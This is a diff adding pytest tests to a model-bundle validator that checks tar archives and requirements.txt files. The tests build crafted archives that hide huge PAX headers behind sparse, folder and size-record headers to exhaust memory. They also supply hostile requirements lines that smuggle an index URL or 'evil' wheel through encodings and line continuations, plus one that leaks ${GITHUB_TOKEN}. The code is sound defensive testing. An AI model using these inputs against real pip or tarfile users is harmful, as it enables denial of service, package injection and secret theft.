@@ -144,6 +144,172 @@ def test_a_huge_pax_header_is_refused_in_bounded_memory(tmp_path):
     assert rss_kb < 200 * 1024, f"the check used {rss_kb} KB: the header was read into memory"
 
 
+def _checksummed(block: bytearray) -> bytes:
+    block[148:156] = b" " * 8
+    block[148:155] = b"%06o\0" % sum(block)
+    return bytes(block)
+
+
+def _archive_hiding_a_pax_header_behind_a_sparse_header(path: Path, header_bytes: int) -> Path:
+    """A GNU sparse ('S') header whose extension block the raw scan took for a header: its size
+    field made the scan skip the huge PAX header that tarfile then reads into memory."""
+    data = b'[model]\nname = "x"\nversion = "1"\nentrypoint = "model:Model"\n'
+    sparse = tarfile.TarInfo("a.bin")
+    sparse.type = tarfile.GNUTYPE_SPARSE
+    head = bytearray(sparse.tobuf(format=tarfile.GNU_FORMAT))
+    head[482] = 1  # an extension block follows
+    record_len = header_bytes + len(" comment=\n") + len(str(header_bytes)) + 1
+    pax = tarfile.TarInfo("././@PaxHeader")
+    pax.type, pax.size = tarfile.XHDTYPE, record_len
+    extension = bytearray(BLOCK_SIZE)
+    extension[124:136] = b"%011o\0" % (BLOCK_SIZE + -(-record_len // BLOCK_SIZE) * BLOCK_SIZE)
+    member = tarfile.TarInfo("berth.toml")
+    member.size = len(data)
+    with gzip.open(path, "wb", compresslevel=9) as out:
+        out.write(_checksummed(head) + bytes(extension) + pax.tobuf(format=tarfile.USTAR_FORMAT))
+        out.write(f"{record_len} comment=".encode())
+        left = header_bytes
+        while left:
+            out.write(b"A" * min(left, 1 << 20))
+            left -= min(left, 1 << 20)
+        out.write(b"\n" + bytes(-record_len % 512))
+        out.write(member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
+    return path
+
+
+BLOCK_SIZE = 512
+
+
+def test_a_pax_header_hidden_behind_a_sparse_header_is_refused_in_bounded_memory(tmp_path):
+    archive = _archive_hiding_a_pax_header_behind_a_sparse_header(tmp_path / "sparse.tar.gz", 200 * 1024 * 1024)
+    assert archive.stat().st_size < 1024 * 1024
+    script = (
+        "from app.bundle import check_path\n"
+        f"r = check_path({str(archive)!r})\n"
+        "print('ERR', r.ok, [str(p) for p in r.errors])\n"
+        "print('RSS', [l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0])\n")
+    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120,
+                         cwd=Path(__file__).resolve().parents[1]).stdout
+    rss_kb = int(out.split("RSS ")[1].split()[0])
+    assert rss_kb < 200 * 1024, f"the check used {rss_kb} KB: the hidden header was read into memory"
+    assert "ERR False" in out and "sparse" in out, out
+
+
+def _archive_hiding_a_pax_header_behind_a_pax_size(path: Path, header_bytes: int) -> Path:
+    """A PAX `size=0` record over a header whose own size field covers the huge PAX header after it:
+    the raw scan skipped that as data, tarfile (which obeys the record) read it as a header."""
+    data = b'[model]\nname = "x"\nversion = "1"\nentrypoint = "model:Model"\n'
+    record_len = header_bytes + len(" comment=\n") + len(str(header_bytes)) + 1
+    huge = tarfile.TarInfo("././@PaxHeader")
+    huge.type, huge.size = tarfile.XHDTYPE, record_len
+    size_record = b"11 size=0\n"
+    small = tarfile.TarInfo("././@PaxHeader")
+    small.type, small.size = tarfile.XHDTYPE, len(size_record)
+    cover = tarfile.TarInfo("a.bin")
+    cover.size = BLOCK_SIZE + -(-record_len // BLOCK_SIZE) * BLOCK_SIZE
+    member = tarfile.TarInfo("berth.toml")
+    member.size = len(data)
+    with gzip.open(path, "wb", compresslevel=9) as out:
+        out.write(small.tobuf(format=tarfile.USTAR_FORMAT) + size_record + bytes(-len(size_record) % 512))
+        out.write(cover.tobuf(format=tarfile.USTAR_FORMAT) + huge.tobuf(format=tarfile.USTAR_FORMAT))
+        out.write(f"{record_len} comment=".encode())
+        left = header_bytes
+        while left:
+            out.write(b"A" * min(left, 1 << 20))
+            left -= min(left, 1 << 20)
+        out.write(b"\n" + bytes(-record_len % 512))
+        out.write(member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
+    return path
+
+
+def test_a_pax_header_hidden_behind_a_pax_size_record_is_refused_in_bounded_memory(tmp_path):
+    archive = _archive_hiding_a_pax_header_behind_a_pax_size(tmp_path / "size.tar.gz", 200 * 1024 * 1024)
+    script = (
+        "from app.bundle import check_path\n"
+        f"r = check_path({str(archive)!r})\n"
+        "print('ERR', r.ok, [str(p) for p in r.errors])\n"
+        "print('RSS', [l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0])\n")
+    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120,
+                         cwd=Path(__file__).resolve().parents[1]).stdout
+    rss_kb = int(out.split("RSS ")[1].split()[0])
+    assert rss_kb < 200 * 1024, f"the check used {rss_kb} KB: the hidden header was read into memory"
+    assert "ERR False" in out and "size" in out, out
+
+
+def _archive_with_a_hidden_header(path: Path, header_bytes: int, how: str) -> Path:
+    """A huge PAX header tarfile reads but a scan framing the stream otherwise skips: behind a folder
+    header with a size field (tarfile reads no data for folders and links), or typed 'X' (Solaris
+    extended header, which tarfile handles as PAX)."""
+    data = b'[model]\nname = "x"\nversion = "1"\nentrypoint = "model:Model"\n'
+    record_len = header_bytes + len(" comment=\n") + len(str(header_bytes)) + 1
+    huge = tarfile.TarInfo("././@PaxHeader")
+    huge.type, huge.size = (b"X" if how == "solaris" else tarfile.XHDTYPE), record_len
+    member = tarfile.TarInfo("berth.toml")
+    member.size = len(data)
+    with gzip.open(path, "wb", compresslevel=9) as out:
+        if how == "folder":
+            cover = tarfile.TarInfo("d")
+            cover.type = tarfile.DIRTYPE
+            block = bytearray(cover.tobuf(format=tarfile.USTAR_FORMAT))
+            block[124:136] = b"%011o\0" % (BLOCK_SIZE + -(-record_len // BLOCK_SIZE) * BLOCK_SIZE)
+            out.write(_checksummed(block))
+        out.write(huge.tobuf(format=tarfile.USTAR_FORMAT) + f"{record_len} comment=".encode())
+        left = header_bytes
+        while left:
+            out.write(b"A" * min(left, 1 << 20))
+            left -= min(left, 1 << 20)
+        out.write(b"\n" + bytes(-record_len % 512))
+        out.write(member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
+    return path
+
+
+@pytest.mark.parametrize("how", ["folder", "solaris"])
+def test_a_header_framed_otherwise_by_tarfile_is_refused_in_bounded_memory(tmp_path, how):
+    archive = _archive_with_a_hidden_header(tmp_path / "hidden.tar.gz", 200 * 1024 * 1024, how)
+    script = (
+        "from app.bundle import check_path\n"
+        f"r = check_path({str(archive)!r})\n"
+        "print('ERR', r.ok, [str(p) for p in r.errors])\n"
+        "print('RSS', [l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0])\n")
+    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120,
+                         cwd=Path(__file__).resolve().parents[1]).stdout
+    rss_kb = int(out.split("RSS ")[1].split()[0])
+    assert rss_kb < 200 * 1024, f"the check used {rss_kb} KB: the hidden header was read into memory"
+    assert "ERR False" in out, out
+
+
+def test_a_pax_sparse_map_is_refused_before_tarfile_reads_it(tmp_path):
+    """GNU.sparse 1.0 keeps its map in the member's data, read number by number into a list: 100 MB
+    of "0\\n" (100 KB gzipped) is 50 million ints in memory; no bundle needs a sparse file."""
+    raw = io.BytesIO()
+    info = tarfile.TarInfo("a.bin")
+    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "a.bin",
+                        "GNU.sparse.realsize": "0"}
+    sparse_map = b"1\n0\n0\n"
+    info.size = len(sparse_map)
+    raw.write(info.tobuf(format=tarfile.PAX_FORMAT) + sparse_map + bytes(-len(sparse_map) % 512) + bytes(1024))
+    (tmp_path / "map.tar.gz").write_bytes(gzip.compress(raw.getvalue()))
+    with pytest.raises(UnsafeArchive, match="GNU sparse file"):
+        check_archive(tmp_path / "map.tar.gz")
+
+
+def test_a_long_chain_of_long_name_headers_is_one_clear_problem(tmp_path):
+    """tarfile follows each GNU long-name header by recursion: 3,000 of them (3 MB, 10 KB gzipped)
+    raised a RecursionError out of the check."""
+    data = b'[model]\nname = "x"\n'
+    raw = io.BytesIO()
+    name = b"x" * 100 + b"\0"
+    long_name = tarfile.TarInfo("././@LongLink")
+    long_name.type, long_name.size = tarfile.GNUTYPE_LONGNAME, len(name)
+    block = long_name.tobuf(format=tarfile.USTAR_FORMAT) + name + bytes(-len(name) % 512)
+    member = tarfile.TarInfo("berth.toml")
+    member.size = len(data)
+    raw.write(block * 3000 + member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
+    (tmp_path / "chain.tar.gz").write_bytes(gzip.compress(raw.getvalue()))
+    with pytest.raises(UnsafeArchive, match="extended headers in a row"):
+        check_archive(tmp_path / "chain.tar.gz")
+
+
 def test_an_ordinary_pax_header_is_still_accepted(tmp_path):
     archive = _archive_with_pax_header(tmp_path / "pax.tar.gz", 3000)
     assert [m.name for m in check_archive(archive)] == ["berth.toml"]
@@ -233,6 +399,25 @@ def test_requirements_that_leave_the_bundle_or_the_index_are_refused_with_their_
     errors = errors_of(bundle)
     assert len(errors) == 1 and errors[0].startswith("requirements.txt:3: model.requirements: ") \
         and fragment in errors[0], errors
+
+
+@pytest.mark.parametrize("data", [
+    b"\xef\xbb\xbf--index-url https://pypi.example.invalid/simple\n",  # pip drops the BOM, then obeys
+    "--index-url https://pypi.example.invalid/simple\n".encode("utf-16"),
+    b"# -*- coding: utf-7 -*-\n+AC0ALQ-index-url https://pypi.example.invalid/simple\n",
+    b"numpy\nevil @ htt\\\nps://example.invalid/evil-1.0.whl\n",  # pip joins continuations with no space
+    b"htt\\\nps://example.invalid/evil-1.0.whl\n",
+    b"numpy==1.$\\\n{GITHUB_TOKEN}\n",  # pip expands ${GITHUB_TOKEN} and prints it in its error
+])
+def test_requirements_are_read_the_way_pip_reads_them(tmp_path, data):
+    """pip decodes a BOM or a PEP 263 coding line and joins `\\` continuations with no space; a check
+    reading the file otherwise saw a harmless package name where pip saw an index or a URL."""
+    bundle = make_bundle(tmp_path / "b")
+    toml = (bundle / "berth.toml").read_text().replace("[model]\n", '[model]\nrequirements = "requirements.txt"\n')
+    (bundle / "berth.toml").write_text(toml)
+    (bundle / "requirements.txt").write_bytes(data)
+    errors = errors_of(bundle)
+    assert len(errors) == 1 and errors[0].startswith("requirements.txt:"), errors
 
 
 def test_ordinary_requirements_and_files_of_the_bundle_pass(tmp_path):
